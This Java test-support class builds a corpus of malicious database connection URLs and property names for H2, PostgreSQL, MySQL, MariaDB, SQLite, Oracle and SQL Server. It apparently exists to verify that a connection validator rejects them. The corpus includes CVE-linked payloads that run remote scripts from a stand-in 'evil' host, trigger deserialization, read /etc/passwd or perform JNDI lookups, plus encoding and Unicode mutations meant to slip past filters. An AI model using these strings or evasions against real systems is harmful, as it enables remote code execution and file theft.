package org.bondstone.adapter.testing;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.function.UnaryOperator;
import org.bondstone.api.sql.ConnectionComponents;

/** URLs and properties that have broken into servers, or would, and what attackers make of them. */
public final class AttackCorpus {

  /** Complete URLs. None of them, and no mutation of them, may be accepted. */
  public static final List<String> URLS =
      List.of(
          // H2: scripts, tracing, servers, archives (CVE-2021-42392, CVE-2022-23221, Metabase).
          "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
          "jdbc:h2:mem:x;INIT=CREATE ALIAS E AS 'void e(){}'",
          "jdbc:h2:mem:x;MODE=MySQL;INIT=CREATE TRIGGER T BEFORE SELECT ON X AS 'y'",
          "jdbc:h2:mem:x\\;INIT=RUNSCRIPT FROM 'y'",
          "jdbc:h2:mem:x;MODE=MySQL\\;INIT=RUNSCRIPT FROM 'y'",
          "jdbc:h2:mem:x;IGNORE_UNKNOWN_SETTINGS=TRUE;FORBID_CREATION=FALSE;INIT=x",
          "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
          "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
          "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
          "jdbc:h2:mem:x;AUTO_SERVER_PORT=9090",
          "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Listener'",
          "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='evil.Serializer'",
          "jdbc:h2:mem:x;AUTHENTICATOR=evil",
          "jdbc:h2:mem:x;AUTHREALM=evil",
          "jdbc:h2:mem:x;CIPHER=AES",
          "jdbc:h2:mem:x;FILE_LOCK=NO",
          "jdbc:h2:mem:x;SCHEMA=PUBLIC\";DROP TABLE t",
          "jdbc:h2:mem:x;MODE=PostgreSQL'",
          "jdbc:h2:mem:x;LOCK_TIMEOUT=1 INIT=2",
          "jdbc:h2:zip:evil.zip!/x",
          "jdbc:h2:file:zip:evil.zip!/x",
          "jdbc:h2:tcp://evil/x",
          "jdbc:h2:ssl://evil/x",
          "jdbc:h2:split:nio:x",
          "jdbc:h2:nioMapped:x",
          "jdbc:h2:async:x",
          "jdbc:h2:memFS:x",
          "jdbc:h2:classpath:x",
          "jdbc:h2:/etc/x",
          "jdbc:h2:../x",
          "jdbc:h2:~/x",
          "jdbc:h2:file:a/../../x",
          "h2:///mem:x?INIT=y",
          "h2:///mem:x;INIT=y",
          "h2:///mem:x%3BINIT=y",
          "h2:////etc/x",
          "h2:///zip:x!/y",
          "h2://evil/mem:x",
          // PostgreSQL (CVE-2022-21724, CVE-2022-26520, CVE-2024-1597).
          "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
          "jdbc:postgresql://h/d?sslfactory=evil.Factory",
          "jdbc:postgresql://h/d?sslfactoryarg=file:///etc/passwd",
          "jdbc:postgresql://h/d?sslhostnameverifier=evil.Verifier",
          "jdbc:postgresql://h/d?sslpasswordcallback=evil.Callback",
          "jdbc:postgresql://h/d?authenticationPluginClassName=evil.Plugin",
          "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
          "jdbc:postgresql://h/d?xmlFactoryFactory=evil.Factory",
          "jdbc:postgresql://h/d?jaasApplicationName=evil&jaasLogin=true",
          "jdbc:postgresql://h/d?preferQueryMode=simple",
          "jdbc:postgresql://h/d?connectExecutor=evil.Executor",
          "jdbc:postgresql://h/d?service=evil",
          "jdbc:postgresql://h/d?classLoaderStrategy=driver-first",
          "jdbc:postgresql://h/d?kerberosServerName=evil&gsslib=sspi",
          "jdbc:postgresql://h/d?localSocketAddress=127.0.0.1",
          "jdbc:postgresql://h/d?replication=database",
          "jdbc:postgresql://h/d?options=-c%20session_preload_libraries=evil",
          "jdbc:postgresql://h/d?options=-c%20role=postgres",
          "jdbc:postgresql://h/d?options=-csearch_path=a\\%20-crole=x",
          "jdbc:postgresql://h/d?sslmode=require;socketFactory=evil",
          "jdbc:postgresql://h/d?sslmode=require%26socketFactory=evil",
          "jdbc:postgresql://h/d?stringtype=unspecified%26socketFactory%3Devil",
          "jdbc:postgresql://h/d?sslrootcert=/etc/passwd",
          "jdbc:postgresql://h/d?sslkey=../../key.pem",
          "jdbc:postgresql://h/d?sslcert=%2e%2e%2fcert.pem",
          "jdbc:postgresql://h1,h2/d?host=evil",
          "jdbc:postgresql://h1,,h2/d",
          "postgresql+psycopg2:///d?host=h1&host=/tmp",
          "postgresql+psycopg2:///d?host=h1,/tmp",
          "postgresql+psycopg2:///d?host=h1&host=h2&hostaddr=127.0.0.1",
          "jdbc:postgresql://h%3Fsocketfactory=evil/d",
          "jdbc:postgresql://h:5432%2Fd%3FsocketFactory=evil/d",
          "jdbc:postgresql:///?socketFactory=evil",
          "jdbc:postgresql:?socketFactory=evil",
          "jdbc:postgresql:d?socketFactory=evil",
          "postgresql+psycopg2://u:p@h/d?host=/tmp",
          "postgresql+psycopg2://u:p@h/d?host=evil",
          "postgresql+psycopg2://u:p@h/d?hostaddr=127.0.0.1",
          "postgresql+psycopg2://u:p@h/d?passfile=/etc/passwd",
          "postgresql+psycopg2://u:p@h/d?service=evil",
          "postgresql+psycopg2://u:p@h,evil/d",
          "postgresql+asyncpg://u:p@h/d?prepared_statement_name_func=evil",
          // MySQL and MariaDB (autoDeserialize, local files, interceptors).
          "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
          "jdbc:mysql://h/d?statementInterceptors=evil",
          "jdbc:mysql://h/d?connectionLifecycleInterceptors=evil",
          "jdbc:mysql://h/d?exceptionInterceptors=evil",
          "jdbc:mysql://h/d?authenticationPlugins=evil",
          "jdbc:mysql://h/d?allowLoadLocalInfile=true",
          "jdbc:mysql://h/d?allowLoadLocalInfileInPath=/etc",
          "jdbc:mysql://h/d?allowUrlInLocalInfile=true",
          "jdbc:mysql://h/d?maxAllowedPacket=655360&allowLoadLocalInfile=yes",
          "jdbc:mysql://h/d?propertiesTransform=evil.Transform",
          "jdbc:mysql://h/d?socketFactory=evil.Factory",
          "jdbc:mysql://h/d?loadBalanceStrategy=evil",
          "jdbc:mysql://h/d?profilerEventHandler=evil",
          "jdbc:mysql://h/d?logger=evil",
          "jdbc:mysql://h/d?useConfigs=fullDebug",
          "jdbc:mysql://h/d?clientInfoProvider=evil",
          "jdbc:mysql://h/d?trustCertificateKeyStoreUrl=http://evil/",
          "jdbc:mysql://h/d?clientCertificateKeyStoreUrl=http://evil/",
          "jdbc:mysql://h/d?allowMultiQueries=true",
          "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
          "jdbc:mysql://(host=h,autoDeserialize=true)/d",
          "jdbc:mysql:loadbalance://h1,h2/d",
          "jdbc:mysql:replication://h1,h2/d",
          "jdbc:mysql:fabric://h/d",
          "jdbc:mysql+srv://h/d",
          "mysqlx://h/d",
          "jdbc:mariadb://h/d?allowLocalInfile=true",
          "jdbc:mariadb://h/d?allowLocalInfile=1",
          "jdbc:mariadb://h/d?sessionVariables=sql_mode=''",
          "jdbc:mariadb://h/d?initSql=DROP%20TABLE%20t",
          "jdbc:mariadb://h/d?credentialType=ENV",
          "jdbc:mariadb://h/d?serverRsaPublicKeyFile=/etc/passwd",
          "jdbc:mariadb://h/d?serverSslCert=/etc/passwd",
          "jdbc:mariadb://h/d?keyStore=/etc/passwd",
          "jdbc:mariadb://h/d?localSocket=/tmp/x",
          "jdbc:mariadb://h/d?pipe=x",
          "jdbc:mariadb://h/d?permitRedirect=true",
          "jdbc:mariadb:sequential://h1/d",
          "mysql+pymysql://u:p@h/d?local_infile=1",
          "mysql+pymysql://u:p@h/d?init_command=DROP%20TABLE%20t",
          "mysql+pymysql://u:p@h/d?read_default_file=/etc/my.cnf",
          "mysql+pymysql://u:p@h/d?unix_socket=/tmp/x",
          "mysql+pymysql://u:p@h/d?ssl_key=/etc/passwd",
          // SQLite (CVE-2023-32697).
          "jdbc:sqlite::resource:http://evil/x.db",
          "jdbc:sqlite::resource:/etc/passwd",
          "jdbc:sqlite:x.db?enable_load_extension=true",
          "jdbc:sqlite:x.db?load_extension=evil.so",
          "jdbc:sqlite:x.db?vfs=evil",
          "jdbc:sqlite:x.db?password=x&hexkey_mode=sse",
          "jdbc:sqlite:x.db?temp_store_directory=/tmp",
          "jdbc:sqlite:file:/etc/passwd?mode=ro",
          "jdbc:sqlite:file:%2fetc%2fpasswd",
          "jdbc:sqlite:file:x.db?vfs=unix-none",
          "jdbc:sqlite:/etc/passwd",
          "jdbc:sqlite:../x.db",
          "jdbc:sqlite:~/x.db",
          "sqlite:////etc/passwd",
          "sqlite:///../x.db",
          "sqlite:///a/../../x.db",
          "sqlite:///%2e%2e/x.db",
          "sqlite:///:resource:x",
          "sqlite:///file:/etc/passwd?uri=true",
          "sqlite:///x.db?mode=memory'",
          "sqlite://evil/x.db",
          "sqlite+pysqlcipher://:key@/x.db",
          // Others, and kinds that are not known at all.
          "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=h)(PORT=1)))",
          "jdbc:oracle:thin:@//h:1521/s?TNS_ADMIN=/tmp",
          "jdbc:oracle:thin:@//h:1521/s?oracle.jdbc.provider.password=evil",
          "jdbc:oracle:thin:@ldap://evil/x",
          "jdbc:oracle:thin:@tcps://h:1/s?wallet_location=/etc",
          "jdbc:oracle:oci8:@x",
          "oracle://u:p@h/sid?config_dir=/etc",
          "jdbc:sqlserver://h;integratedSecurity=true;authenticationScheme=JavaKerberos",
          "jdbc:sqlserver://h;socketFactoryClass=evil.Factory",
          "jdbc:sqlserver://h;trustManagerClass=evil.Trust",
          "jdbc:sqlserver://h;accessTokenCallbackClass=evil.Callback",
          "jdbc:sqlserver://h;keyStoreLocation=/etc/passwd",
          "jdbc:sqlserver://h;clientKey=/etc/passwd",
          "jdbc:sqlserver://h;serverName=evil",
          "jdbc:sqlserver://h\\evil;databaseName=x",
          "mssql+pyodbc://u:p@h/d?odbc_connect=DRIVER%3Devil",
          "mssql+pyodbc:///?odbc_connect=DRIVER%3Devil",
          "jdbc:derby:memory:x;create=true",
          "jdbc:hsqldb:http://evil/x",
          "jdbc:db2://h:1/d:clientRerouteServerListJNDIName=ldap://evil/x;",
          "jdbc:snowflake://evil/?user=x",
          "jdbc:dremio:direct=x",
          "jdbc:jcr:jndi:ldap://evil/x",
          "jdbc:teradata://h/BROWSER=calc",
          "jdbc:modeshape:jndi:ldap://evil",
          "jdbc:jtds:sqlserver://h",
          "jdbc:p6spy:h2:mem:x",
          "jdbc:log4jdbc:h2:mem:x",
          "jdbc:tc:postgresql:9.6:///x",
          "jdbc:aws-wrapper:postgresql://h/d",
          "jdbc:jdbc:h2:mem:x",
          "java:comp/env/jdbc/x",
          "ldap://evil/x",
          "rmi://evil/x",
          "file:///etc/passwd",
          "http://evil/");

  /** Names of properties that no kind of database takes, in URL or in connect arguments. */
  public static final List<String> PROPERTIES =
      List.of(
          "INIT",
          "TRACE_LEVEL_FILE",
          "TRACE_LEVEL_SYSTEM_OUT",
          "IGNORE_UNKNOWN_SETTINGS",
          "DATABASE_EVENT_LISTENER",
          "AUTO_SERVER",
          "socketFactory",
          "socketFactoryArg",
          "socketfactory",
          "sslfactory",
          "sslfactoryarg",
          "sslhostnameverifier",
          "sslpasswordcallback",
          "authenticationPluginClassName",
          "loggerFile",
          "loggerLevel",
          "xmlFactoryFactory",
          "jaasApplicationName",
          "jaasLogin",
          "preferQueryMode",
          "connectExecutor",
          "service",
          "autoDeserialize",
          "queryInterceptors",
          "statementInterceptors",
          "exceptionInterceptors",
          "allowLoadLocalInfile",
          "allowUrlInLocalInfile",
          "propertiesTransform",
          "allowMultiQueries",
          "sessionVariables",
          "initSql",
          "init_command",
          "enable_load_extension",
          "load_extension",
          "vfs",
          "host",
          "hostaddr",
          "port",
          "user",
          "username",
          "password",
          "dbname",
          "database",
          "url",
          "URL",
          "driverClass",
          "driver_class",
          "jdbcUrl",
          "dsn",
          "passfile",
          "unix_socket",
          "read_default_file",
          "enable_external_access",
          "lock_configuration",
          "allowed_paths",
          "autoload_known_extensions",
          "preload_extensions",
          "secret_directory",
          "home_directory",
          "session_init_sql_file",
          "jdbc_pin_db",
          "creator",
          "connection_factory",
          "");

  private static final List<UnaryOperator<String>> MUTATIONS =
      List.of(
          url -> url,
          url -> url.toUpperCase(Locale.ROOT),
          url -> url.toLowerCase(Locale.ROOT),
          AttackCorpus::swapCase,
          url -> " " + url,
          url -> url + " ",
          url -> url + "\n",
          url -> "\t" + url,
          url -> url + "\0",
          url -> "\uFEFF" + url,
          url -> "jdbc:" + url,
          url -> "JDBC:" + url.replaceFirst("^jdbc:", ""),
          url -> url.replace(';', '&'),
          url -> url.replace('&', ';'),
          url -> url.replace("?", ";"),
          url -> url.replace("?", "?&"),
          url -> url.replace("=", "%3D"),
          url -> url.replace("&", "%26"),
          url -> url.replace("?", "%3F"),
          url -> url.replace(";", "%3B"),
          url -> url.replace("/", "\\"),
          url -> url.replace("=", " = "),
          url -> url.replace(";", ";;"),
          url -> url.replace("&", "&&"),
          url -> url.replace('=', '\uFF1D'),
          url -> url.replace(';', '\uFF1B'),
          url -> url.replace("evil", "ev\u200Bil"),
          AttackCorpus::encodeNames,
          url -> encodeNames(url).replace("%", "%25"),
          AttackCorpus::encodeAll,
          url -> url.replaceFirst("([?;&])", "$1user=x$1"),
          url -> url.replaceFirst("([?;&])", "$1sslmode=require$1"));

  private AttackCorpus() {}

  /** A harmless URL for each kind of database. */
  public static List<String> places() {
    return List.of(
        "postgresql://h/d",
        "h2:///mem:x",
        "sqlite:///x.db",
        "duckdb:///x.db",
        "mysql://h/d",
        "oracle://h/d",
        "mssql://h/d");
  }

  /**
   * Every URL and every property, in both places that a property can have, as the data of a block
   * document.
   */
  public static List<Map<String, Object>> documents() {
    List<Map<String, Object>> all = new ArrayList<>();
    URLS.forEach(url -> all.add(Map.of("connection_info", url)));
    for (String place : places()) {
      for (String property : PROPERTIES) {
        Map<String, Object> setting = Map.of(property, "x");
        all.add(Map.of("connection_info", place, "connect_args", setting));
        all.add(Map.of("connection_info", parts(place, setting)));
      }
    }
    return all;
  }

  private static Map<String, Object> parts(String url, Map<String, Object> query) {
    ConnectionComponents parts = ConnectionComponents.parse(url);
    Map<String, Object> data = new HashMap<>();
    data.put("driver", parts.driver().name());
    data.put("host", parts.host());
    data.put("database", parts.database());
    data.put("query", query);
    return data;
  }

  /** Every URL in every mutation. */
  public static Set<String> mutated() {
    Set<String> all = new LinkedHashSet<>();
    URLS.forEach(url -> all.addAll(mutations(url)));
    return all;
  }

  /** A URL in every mutation, itself included. */
  public static List<String> mutations(String url) {
    return MUTATIONS.stream().map(m -> m.apply(url)).toList();
  }

  private static String swapCase(String text) {
    return text.codePoints()
        .map(c -> Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c))
        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
        .toString();
  }

  /** Percent-encodes the letters after the first separator of settings. */
  private static String encodeNames(String url) {
    int start = url.replace(';', '?').indexOf('?');
    return start < 0 ? url : url.substring(0, start + 1) + letters(url.substring(start + 1));
  }

  /** Percent-encodes the letters after the scheme. */
  private static String encodeAll(String url) {
    int start = url.lastIndexOf(':', Math.max(0, url.indexOf("//"))) + 1;
    return url.substring(0, start) + letters(url.substring(start));
  }

  private static String letters(String text) {
    StringBuilder encoded = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      boolean letter = Character.isLetter(b & 0xff) && (b & 0x80) == 0;
      encoded.append(letter ? "%%%02x".formatted(b) : String.valueOf((char) (b & 0xff)));
    }
    return encoded.toString();
  }
}
